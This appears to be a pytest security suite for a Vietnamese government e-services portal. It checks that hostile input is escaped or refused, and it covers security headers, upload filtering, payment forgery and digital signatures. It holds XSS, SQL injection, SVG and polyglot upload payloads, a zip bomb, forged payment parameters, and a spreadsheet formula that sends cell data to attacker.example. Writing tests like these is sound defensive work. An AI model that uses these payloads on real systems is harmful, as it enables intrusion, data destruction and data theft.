"""Hostile input: script and SQL payloads in every filter and form field come back escaped (or are refused) and
never as a server error; attack files are refused at upload; the security headers are on every page; Django's
deployment check has nothing to say about the production settings."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dvc.accounts.services import api_token_create
from dvc.accounts.tests.factories import UserFactory
from dvc.catalog.models import Procedure
from dvc.dossiers.backoffice.decision import dossier_refuse
from dvc.dossiers.citizen.drafting import dossier_start
from dvc.dossiers.citizen.papers import dossier_attach
from dvc.dossiers.models import Dossier, DossierAttachment
from dvc.dossiers.tests import test_supplement_scope as supplement_scope
from dvc.dossiers.tests.factories import (
    BIRTH_FORM,
    MARITAL_ANSWERS,
    DossierFactory,
    agency_staff,
    commune_centre,
    pdf_upload,
    photo_upload,
    sign_as,
)
from dvc.dossiers.tests.test_supplement_scope import edit_post
from dvc.errors import InvalidInput
from dvc.payments.models import FeeLine, PaymentAttempt
from dvc.payments.tests import test_fee_quantities as fee_quantities
from dvc.payments.tests.test_fee_quantities import COPY_ANSWERS
from dvc.payments.tests.test_ipn import IPN, started
from dvc.payments.tests.test_payment_sabotage import CAPTCHA
from dvc.stats.services import counts_add
from dvc.vault import inspection

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[3]
XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
SQLI = "' OR '1'='1' --; DROP TABLE dossiers_dossier; --"
RAW = ("<script>alert(1)</script>", "<img src=x onerror")
# Fixtures of the per-feature suites, reused here: a copy-fee draft and a dossier under a request for more papers.
copy_draft = fee_quantities.copy_draft
asked = supplement_scope.asked


def _clean(response) -> None:
    assert response.status_code < 500, response.status_code
    body = response.content.decode()
    for raw in RAW:
        assert raw not in body


PUBLIC_FILTERS = {
    "/thu-tuc/": ["q", "linh_vuc", "cap", "muc_do", "co_quan", "su_kien", "trang"],
    "/co-quan/": ["q", "tinh", "trang"],
    "/tra-cuu/": ["ma", "cccd"],
    "/thong-ke/": ["tinh", "co_quan", "thu_tuc", "linh_vuc", "cap", "muc_do", "tu_thang", "den_thang"],
    "/thanh-toan/": ["ma", "ma_bao_mat"],
    "/api/v1/procedures": ["q", "sector", "level", "page"],
    "/api/v1/stats": ["province", "agency", "procedure", "sector", "month_from", "month_to"],
    "/api/v1/admin-units": ["parent", "level"],
}


@pytest.mark.parametrize("payload", [XSS, SQLI])
def test_public_filters_escape_or_refuse_payloads(client, payload):
    for path, names in PUBLIC_FILTERS.items():
        _clean(client.get(path + "?" + urlencode(dict.fromkeys(names, payload))))
    _clean(client.get("/api/v1/lookup/" + payload.replace("/", "")))
    _clean(client.get("/thu-tuc/" + "x%3Cscript%3E/"))


def test_a_search_shows_what_was_typed_escaped(client):
    page = client.get("/thu-tuc/?" + urlencode({"q": XSS})).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert client.get("/tra-cuu/?" + urlencode({"ma": SQLI})).status_code == 200


@pytest.mark.parametrize("payload", [XSS, SQLI])
def test_staff_filters_escape_or_refuse_payloads(client, payload):
    agency = commune_centre()
    client.force_login(agency_staff(agency).leader)
    for path, names in {
        "/can-bo/": ["hang", "co_quan", "thu_tuc", "trang_thai", "q", "trang", "tu_ngay", "den_ngay"],
        "/can-bo/so-theo-doi/": ["co_quan", "tu_ngay", "den_ngay", "xuat"],
        "/can-bo/bao-cao/": ["co_quan", "tu_ngay", "den_ngay", "xuat"],
        "/can-bo/tiep-nhan-tai-quay/": ["thu_tuc"],
    }.items():
        _clean(client.get(path + "?" + urlencode(dict.fromkeys(names, payload))))


def test_registration_shows_hostile_input_escaped(client):
    response = client.post(
        "/dang-ky/", {"kind": "citizen", "full_name": XSS, "id_number": SQLI, "phone": XSS, "email": XSS}
    )
    _clean(response)
    assert "&lt;script&gt;" in response.content.decode()


def test_what_a_citizen_types_reaches_the_officer_escaped(client, submitted_dossier):
    agency = commune_centre()
    staff = agency_staff(agency)
    citizen = UserFactory(full_name=XSS)
    dossier = submitted_dossier(citizen, agency=agency)
    dossier.form_data = {**MARITAL_ANSWERS, "muc_dich": XSS}
    dossier.save(update_fields=["form_data"])
    dossier_refuse(dossier=dossier, actor=staff.leader, reason=XSS)
    client.force_login(staff.officer)
    _clean(client.get(f"/can-bo/ho-so/{dossier.pk}/"))
    searched = client.post("/can-bo/", {"hang": "tat-ca", "q": XSS[:60]}, follow=True)
    _clean(searched)
    assert "&lt;script&gt;" in searched.content.decode()  # the search term, echoed into the box as text
    client.force_login(citizen)
    page = client.get(f"/ho-so/{dossier.pk}/")
    _clean(page)
    assert "&lt;script&gt;" in page.content.decode()  # the refusal reason, shown as text


@pytest.fixture
def draft():
    user = UserFactory()
    procedure = Procedure.objects.get(code="1.004873")
    dossier = dossier_start(applicant=user, procedure=procedure, agency=commune_centre())
    requirement = procedure.requirements.get(name__startswith="Giấy tờ tùy thân")
    requirement.accepted_types = ["pdf", "jpg", "png", "docx"]
    requirement.save()
    return user, dossier, requirement


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


ATTACKS = {
    "html-before-pdf.pdf": b"<html><body><script>alert(1)</script></body></html>\n%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF",
    "anh.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "anh-svg.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "trang.html.pdf": b"<!DOCTYPE html><script>alert(1)</script>",
    "bom.docx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"0" * (3 * 1024 * 1024)}),
    "gia-word.docx": _zip({"evil.html": b"<script>alert(1)</script>"}),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_files_are_refused_and_nothing_is_kept(client, draft, monkeypatch, name):
    monkeypatch.setattr(inspection, "MAX_DOCX_UNPACKED", 1024 * 1024)  # a 1 MB budget stands in for 200 MB
    user, dossier, requirement = draft
    client.force_login(user)
    response = client.post(
        f"/ho-so/{dossier.pk}/dinh-kem/",
        {"requirement": requirement.pk, "file": SimpleUploadedFile(name, ATTACKS[name])},
    )
    assert response.status_code < 500
    assert not DossierAttachment.objects.filter(dossier=dossier).exists()
    with pytest.raises(InvalidInput):
        dossier_attach(
            dossier=dossier, actor=user, requirement=requirement, upload=SimpleUploadedFile(name, ATTACKS[name])
        )


def test_a_pdf_with_html_inside_is_only_ever_served_as_a_sandboxed_download(client, draft):
    user, dossier, requirement = draft
    polyglot = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"
    dossier_attach(dossier=dossier, actor=user, requirement=requirement, upload=SimpleUploadedFile("x.pdf", polyglot))
    attachment = DossierAttachment.objects.get(dossier=dossier)
    client.force_login(user)
    response = client.get(f"/ho-so/{dossier.pk}/dinh-kem/{attachment.pk}/")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"].startswith("sandbox")


@pytest.mark.parametrize("path", ["/", "/thu-tuc/", "/dang-nhap/", "/thong-ke/", "/api/v1/procedures"])
def test_security_headers_on_every_kind_of_page(client, path):
    response = client.get(path)
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    if not path.startswith("/api/"):
        csp = response["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "script-src 'self'" in csp and "'unsafe-inline'" not in csp


PRODUCTION = {
    "DVC_ENV": "production",
    "DVC_ALLOWED_HOSTS": "dichvucong.example.gov.vn",
    "DVC_SECRET_KEY": "k" * 20 + "Zx9!aQ7#mW2$eR5^tY8&uI1*oP4(lK6)jH3_gF0+dS",
    "DVC_VNPAY_PAY_URL": "https://pay.vnpay.vn/vpcpay.html",
    "DVC_VNPAY_API_URL": "https://merchant.vnpay.vn/merchant_webapi/api/transaction",
    "DVC_VNPAY_TMN_CODE": "ABCD1234",
    "DVC_VNPAY_HASH_SECRET": "s" * 32,
    "DVC_MANAGING_AGENCY": "Ủy ban nhân dân Thành phố Bắc Ninh",
    "DVC_OPERATOR": "Trung tâm Phục vụ hành chính công Thành phố Bắc Ninh",
    "DVC_HOTLINE": "0222 3 822 222",
    "DVC_CONTACT_EMAIL": "dichvucong@bacninh.gov.vn",
}


def test_the_deployment_check_is_silent_on_production_settings(tmp_path):
    environment = {k: v for k, v in os.environ.items() if not k.startswith("DVC_") and k != "DATABASE_URL"}
    environment |= PRODUCTION | {"DVC_VAR_DIR": str(tmp_path)}
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT, env=environment, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout
    hsts = subprocess.run(
        [sys.executable, "-c", "import dvc.settings as s; print(s.SECURE_HSTS_SECONDS, s.SECURE_HSTS_PRELOAD)"],
        cwd=ROOT, env=environment, capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    assert hsts.stdout.split() == ["31536000", "True"]


def test_a_start_without_dvc_env_refuses_instead_of_using_development_secrets(tmp_path):
    """Issue 15 (safe by default): development defaults (DEBUG, the sandbox secret, the trusted development CA)
    applied whenever DVC_ENV was unset. ``make run`` and the tests set it; anything else must say which."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[3]
    env = {k: v for k, v in os.environ.items() if k != "DVC_ENV"}
    env |= {"DJANGO_SETTINGS_MODULE": "dvc.settings", "DVC_VAR_DIR": str(tmp_path)}
    code = "import django; django.setup()"
    done = subprocess.run([sys.executable, "-c", code], cwd=root, env=env, capture_output=True, text=True, check=False)
    assert done.returncode != 0 and "DVC_ENV" in done.stderr and "development" in done.stderr
    ok = subprocess.run([sys.executable, "-c", code], cwd=root, env={**env, "DVC_ENV": "development"},
                        capture_output=True, text=True, check=False)  # fmt: skip
    assert ok.returncode == 0, ok.stderr[-1000:]


def test_pages_with_personal_data_are_never_kept_by_a_browser_or_proxy_cache(client, submitted_dossier):
    """Issue 15 (low): no ``Cache-Control: no-store`` on personal pages; a shared computer's back button showed them."""
    from dvc.accounts.tests.factories import UserFactory

    citizen = UserFactory()
    dossier = submitted_dossier(citizen)
    client.force_login(citizen)
    for url in ("/ho-so/", f"/ho-so/{dossier.pk}/", "/tai-khoan/", "/kho-du-lieu/"):
        assert "no-store" in client.get(url)["Cache-Control"], url
    client.logout()
    assert "no-store" not in client.get("/").get("Cache-Control", "")  # public pages stay cacheable


def test_stored_files_are_readable_by_the_portal_only(submitted_dossier, settings):
    """Issue 15 (low): database and media files were created world-readable (0644)."""
    import stat

    from dvc.accounts.tests.factories import UserFactory

    dossier = submitted_dossier(UserFactory())
    stored = dossier.attachments.get().stored_file
    mode = stat.S_IMODE(Path(stored.file.path).stat().st_mode)
    assert mode & 0o077 == 0, oct(mode)


def test_a_download_is_named_by_the_portal_with_the_extension_of_its_checked_content(client, submitted_dossier):
    """Issue 15 (low): downloads kept the uploader's name and extension (``x.pdf.html``)."""
    from dvc.dossiers.tests.factories import DossierFactory, pdf_upload

    draft = DossierFactory()
    identity = draft.procedure.requirements.get(name__startswith="Giấy tờ tùy thân")
    attachment = dossier_attach(
        dossier=draft, actor=draft.applicant, requirement=identity, upload=pdf_upload("x.pdf.html")
    )
    client.force_login(draft.applicant)
    answer = client.get(reverse("dossiers:attachment", args=[draft.pk, attachment.pk]))
    disposition = answer["Content-Disposition"]
    assert disposition.endswith('.pdf"') and ".html" not in disposition and answer["Content-Type"] == "application/pdf"


def test_an_oversized_request_is_refused_before_it_is_read(client):
    """Issue 15 (low): no request size limit in the app."""
    answer = client.post("/api/v1/auth/login", b"{}", content_type="application/json",
                         CONTENT_LENGTH=str(200 * 1024 * 1024))  # fmt: skip
    assert answer.status_code == 413


def test_the_public_verification_upload_is_rate_limited(client, settings):
    """Issue 15 (low): an anonymous 20 MB PDF parse per request on /xac-minh/."""
    from dvc.dossiers.models import IssuedResult
    from dvc.dossiers.tests.factories import DossierFactory, stored_pdf

    dossier = DossierFactory(result_ready=True)
    issued = IssuedResult.objects.create(
        dossier=dossier, stored_file=stored_pdf(dossier.applicant, name="kq2.pdf"), agency_name="x", agency_code="x",
        document_title="x", signer_name="x", signed_at=dossier.decided_at, sha256="0" * 64,
    )  # fmt: skip
    settings.DVC_VERIFY_UPLOADS_PER_CLIENT = 2
    url = reverse("staff:verify", args=[issued.pk])
    codes = [client.post(url, {"file": SimpleUploadedFile("a.pdf", b"%PDF-1.4 x")}).status_code for _ in range(3)]
    assert codes == [200, 200, 429]


def test_a_serving_command_without_dvc_env_says_so_and_housekeeping_runs(tmp_path):
    """``manage.py run_worker`` (or runserver, run_portal) must be told DVC_ENV; ``check`` runs on development."""
    root = Path(__file__).resolve().parents[3]
    env = {k: v for k, v in os.environ.items() if k != "DVC_ENV"} | {"DVC_VAR_DIR": str(tmp_path)}
    serve = subprocess.run([sys.executable, "manage.py", "run_worker"], cwd=root, env=env, capture_output=True,
                           text=True, check=False, timeout=60)  # fmt: skip
    assert serve.returncode != 0 and "DVC_ENV must be set" in serve.stderr
    check = subprocess.run([sys.executable, "manage.py", "check"], cwd=root, env=env, capture_output=True,
                           text=True, check=False, timeout=60)  # fmt: skip
    assert check.returncode == 0, check.stderr[-1000:]


# Issue 15 acceptance: each finding's hostile input, sent the way an attacker or a careless user would send it.

TEN = ["10.0", "1e1", "10,0", " 10 "]  # ten copies, however written: stored as 10 and billed 10 × 8,000 đồng
NOT_A_COUNT = {"²": "phải là số", "-1": "không được nhỏ hơn 0", "11": "không được lớn hơn 10"}
SUBMIT: dict[str, str] = {}  # signed in: one declaration (the e-form's), no captcha


def _flat(answers: dict) -> dict:
    """The API's nested answers as the filing page posts them (``f-person.part``), with online delivery."""
    post = {"d-submission_method": "online", "d-result_method": "online", "d-notify_sms": "on"}
    for name, value in answers.items():
        if isinstance(value, dict):
            post |= {f"f-{name}.{part}": text for part, text in value.items()}
        else:
            post[f"f-{name}"] = "on" if value is True else value
    return post


def _fees(dossier) -> list[tuple[int, int]]:
    return [(line.quantity, line.amount) for line in FeeLine.objects.filter(dossier=dossier)]


@pytest.mark.parametrize("copies", [*TEN, *NOT_A_COUNT])
def test_hostile_copy_counts_through_the_api_are_refused_or_billed_as_whole_numbers(client, copy_draft, copies):
    """Issue 15, finding 2: "10.0", "1e1" and "²" copies were stored as typed and billed from a float."""
    dossier, headers = copy_draft
    url = f"/api/v1/dossiers/{dossier.pk}"
    body = {"form_data": {**COPY_ANSWERS, "so_ban_sao": copies}}
    saved = client.patch(url, body, content_type="application/json", **headers)
    sent = client.post(
        url + "/submit", {"idempotency_key": "hostile-copies"}, content_type="application/json", **headers
    )
    assert saved.status_code == 200
    if copies in NOT_A_COUNT:
        assert NOT_A_COUNT[copies] in saved.json()["problems"]["so_ban_sao"][0]
        assert sent.status_code == 422 and NOT_A_COUNT[copies] in sent.json()["errors"]["so_ban_sao"][0]
        assert _fees(dossier) == [] and Dossier.objects.get(pk=dossier.pk).status == Dossier.Status.DRAFT
    else:
        assert saved.json()["form_data"]["so_ban_sao"] == 10 and saved.json()["problems"] == {}
        assert sent.status_code == 200 and sent.json()["form_data"]["so_ban_sao"] == 10
        assert _fees(dossier) == [(10, 80000)]


@pytest.mark.parametrize("copies", [*TEN, *NOT_A_COUNT])
def test_hostile_copy_counts_on_the_filing_page_are_refused_or_billed_as_whole_numbers(client, copy_draft, copies):
    """The same counts typed into the filing page: a Vietnamese message by the field, or 10 copies billed."""
    dossier, _headers = copy_draft
    client.force_login(dossier.applicant)
    edit_url, submit_url = (
        reverse("dossiers:section", args=[dossier.pk, "to-khai"]),
        reverse("dossiers:submit", args=[dossier.pk]),
    )
    edited = client.post(
        edit_url, {**_flat(COPY_ANSWERS), "f-so_ban_sao": copies, "section": "to-khai", "draft": "1", "continue": "1"}
    )
    dossier.refresh_from_db()
    if copies in NOT_A_COUNT:
        assert edited.status_code == 200
        assert f"“Số bản sao trích lục cần cấp” {NOT_A_COUNT[copies]}" in edited.content.decode()
    else:
        assert edited.status_code == 302 and dossier.form_data["so_ban_sao"] == 10
        assert "80.000" in client.get(submit_url).content.decode()
    sent = client.post(submit_url, {**SUBMIT, "idempotency_key": "hostile-copies-page"})
    assert sent.status_code < 500
    dossier.refresh_from_db()
    if copies in NOT_A_COUNT:
        assert dossier.status == Dossier.Status.DRAFT and _fees(dossier) == []
    else:
        assert dossier.status == Dossier.Status.SUBMITTED and _fees(dossier) == [(10, 80000)]


def _as_sent(dossier) -> tuple:
    fresh = Dossier.objects.get(pk=dossier.pk)
    return fresh.form_data, fresh.submission_method, fresh.result_method, fresh.delivery_address, fresh.notify_sms


ADDRESS = {"province": "01", "commune": "00004", "line": "Số 9"}


@pytest.mark.parametrize(
    "change",
    [
        {"d-result_method": "post", "d-province": "01", "d-commune": "00004", "d-address_line": "Số 9"},
        {"f-dien_thoai": "0911111111"},
        {"f-noi_cu_tru.line": "Số 99 Đội Cấn"},
        {"f-nguoi_yeu_cau.full_name": "Trần Văn Khác"},
    ],
)
def test_a_supplement_that_rewrites_what_was_not_asked_for_is_refused_on_the_page(client, asked, change):
    """Issue 15, finding 3: a request for a clearer photo let the citizen rewrite the whole dossier."""
    dossier, _identity, _staff = asked
    before = _as_sent(dossier)
    answer = client.post(reverse("dossiers:edit", args=[dossier.pk]), edit_post(dossier, **change))
    assert answer.status_code == 200 and "chỉ sửa được những gì cơ quan yêu cầu" in answer.content.decode()
    assert _as_sent(dossier) == before


@pytest.mark.parametrize(
    "patch",
    [
        {"result_method": "post", "delivery_address": ADDRESS},
        {"delivery_address": ADDRESS},
        {"submission_method": "post_pickup"},
        {"form_data": {"dien_thoai": "0911111111"}},
        {"form_data": {"muc_dich": "Vay vốn", "cam_doan": False}},
    ],
)
def test_a_supplement_that_rewrites_what_was_not_asked_for_is_refused_by_the_api(client, asked, patch):
    dossier, _identity, _staff = asked
    headers = {"HTTP_AUTHORIZATION": f"Bearer {api_token_create(user=dossier.applicant)}"}
    if "form_data" in patch:
        patch = {"form_data": {**Dossier.objects.get(pk=dossier.pk).form_data, **patch["form_data"]}}
    before = _as_sent(dossier)
    url = f"/api/v1/dossiers/{dossier.pk}"
    answer = client.patch(url, patch, content_type="application/json", **headers)
    assert answer.status_code == 422 and "chỉ sửa được những gì cơ quan yêu cầu" in answer.json()["message"]
    assert _as_sent(dossier) == before
    opened = {**before[0], "muc_dich": "Vay vốn ngân hàng"}  # what the officer did open can still change
    assert client.patch(url, {"form_data": opened}, content_type="application/json", **headers).status_code == 200


@pytest.fixture
def birth_draft(client):
    """Anh An's birth registration (1.001193, the declaration must be signed), answered and with its papers."""
    user = UserFactory(full_name="Nguyễn Văn An", id_number="001085012345")
    dossier = dossier_start(applicant=user, procedure=Procedure.objects.get(code="1.001193"), agency=commune_centre())
    for requirement, upload in (("Giấy chứng sinh", pdf_upload()), ("Giấy tờ tùy thân", photo_upload())):
        paper = dossier.procedure.requirements.get(name__startswith=requirement)
        dossier_attach(dossier=dossier, actor=user, requirement=paper, upload=upload)
    client.force_login(user)
    client.post(reverse("dossiers:edit", args=[dossier.pk]), {**BIRTH_FORM, "save": "1"})
    return user, dossier


def _upload_signed(client, dossier, signer) -> str:
    """The current declaration, downloaded, signed by ``signer`` and uploaded: the message the page shows."""
    declaration = client.get(reverse("dossiers:printable", args=[dossier.pk])).content
    upload = SimpleUploadedFile("to-khai-ky-so.pdf", sign_as(signer, declaration))
    return client.post(
        reverse("dossiers:signed_form", args=[dossier.pk]), {"file": upload}, follow=True
    ).content.decode()


@pytest.mark.parametrize("via", ["page", "api"])
def test_a_declaration_edited_after_signing_cannot_be_sent_as_signed(client, birth_draft, via):
    """Issue 15, finding 4: the form was changed after signing and still went out as "ký số bởi …"."""
    user, dossier = birth_draft
    api = {"path": f"/api/v1/dossiers/{dossier.pk}", "HTTP_AUTHORIZATION": f"Bearer {api_token_create(user=user)}"}
    assert "Chữ ký số hợp lệ" in _upload_signed(client, dossier, user)
    assert client.get(**api).json()["problems"] == {}  # signed, nothing else missing: it could be sent now
    if via == "page":
        client.post(reverse("dossiers:edit", args=[dossier.pk]), {**BIRTH_FORM, "f-ho_ten_tre": "Nguyễn Minh Khang"})
    else:
        form_data = {**Dossier.objects.get(pk=dossier.pk).form_data, "ho_ten_tre": "Nguyễn Minh Khang"}
        client.patch(data={"form_data": form_data}, content_type="application/json", **api)
    problems = client.get(**api).json()["problems"]
    assert list(problems) == ["signed_form"] and "chữ ký số" in problems["signed_form"][0]
    sent = client.post(reverse("dossiers:submit", args=[dossier.pk]), {**SUBMIT, "idempotency_key": "signed-edited"})
    assert sent.status_code == 200 and "chữ ký số" in sent.content.decode()
    dossier.refresh_from_db()
    assert dossier.status == Dossier.Status.DRAFT and dossier.signed_form is None and dossier.signed_by == ""
    assert dossier.form_data["ho_ten_tre"] == "Nguyễn Minh Khang"


@pytest.mark.parametrize(
    ("signer_id", "shown"),
    [("001085099999", "không phải của người nộp"), ("001085012345", "Chữ ký số hợp lệ. Người ký: Nguyễn Văn An")],
)
def test_a_declaration_signed_by_a_namesake_is_refused(client, birth_draft, signer_id, shown):
    """Issue 15, finding 4: a certificate was matched to the applicant by name only."""
    user, dossier = birth_draft
    signer = UserFactory.build(full_name=user.full_name, id_number=signer_id)  # same name; the id decides
    assert shown in _upload_signed(client, dossier, signer)
    dossier.refresh_from_db()
    assert (dossier.signed_form is not None) is (signer_id == user.id_number)


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx_and_csv_exports(client, start):
    """Issue 15, finding 7: a citizen (or procedure) named ``=HYPERLINK(…)`` became a live formula for officers."""
    agency = commune_centre()
    formula = start + 'HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    dossier = DossierFactory(submitted=True, agency=agency, applicant_data={"full_name": formula})
    Procedure.objects.filter(pk=dossier.procedure_id).update(name=formula)
    counts_add(timezone.localdate(), agency.pk, dossier.procedure_id, received_online=1)
    client.force_login(agency_staff(agency).officer)
    for url in (reverse("staff:register") + "?xuat=xlsx", reverse("stats:report") + "?xuat=xlsx"):
        content = client.get(url).content
        cells = [c for row in load_workbook(io.BytesIO(content)).active for c in row if "HYPERLINK" in str(c.value)]
        assert cells and {c.data_type for c in cells} == {"s"}, url
        assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode(), url
    text = client.get(reverse("stats:report") + "?xuat=csv").content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text, newline="")) if row and row[0] == "1.004873"]
    assert names == ["'" + formula]


NOT_FOUND = "Không tìm thấy hồ sơ có mã và mã bảo mật này"


@pytest.mark.parametrize(
    ("guess", "said"),
    [("", "Vui lòng nhập “Mã bảo mật”"), ("AAAAAA", NOT_FOUND), ("<the dossier code>", "tối đa 12 kí tự"),
     ("' OR '1'='1", NOT_FOUND), ("%", NOT_FOUND), ("*", NOT_FOUND)],
)  # fmt: skip
def test_paying_by_code_without_the_security_code_is_refused_and_spoils_nothing(client, guess, said):
    """Issue 15, finding 5: the dossier code alone started a payment and cancelled the applicant's own attempt."""
    dossier = DossierFactory(unpaid=True, fees=[36000])
    mine = started(dossier)  # the applicant is at the gateway right now
    guess = dossier.code if guess == "<the dossier code>" else guess
    page = client.post(reverse("payments:by_code"), {"code": dossier.code, "security_code": guess, **CAPTCHA})
    assert page.status_code == 200 and "36.000" not in page.content.decode()
    assert said in page.content.decode()
    assert client.post(reverse("payments:by_code_start", args=[dossier.pk])).status_code == 404
    forged = {"vnp_TxnRef": mine.txn_ref, "vnp_ResponseCode": "24", "vnp_TransactionStatus": "02"}  # "cancelled"
    client.get(reverse("payments:vnpay_return"), forged)
    assert client.get(IPN, forged).json()["RspCode"] == "97"
    mine.refresh_from_db()
    assert mine.status == PaymentAttempt.Status.PENDING
    assert list(PaymentAttempt.objects.filter(dossier=dossier)) == [mine]  # no attempt of the stranger's
    assert Dossier.objects.get(pk=dossier.pk).fee_status == Dossier.FeeStatus.UNPAID
    right = {"code": dossier.code, "security_code": dossier.security_code, **CAPTCHA}
    assert "36.000" in client.post(reverse("payments:by_code"), right).content.decode()  # the page does show fees
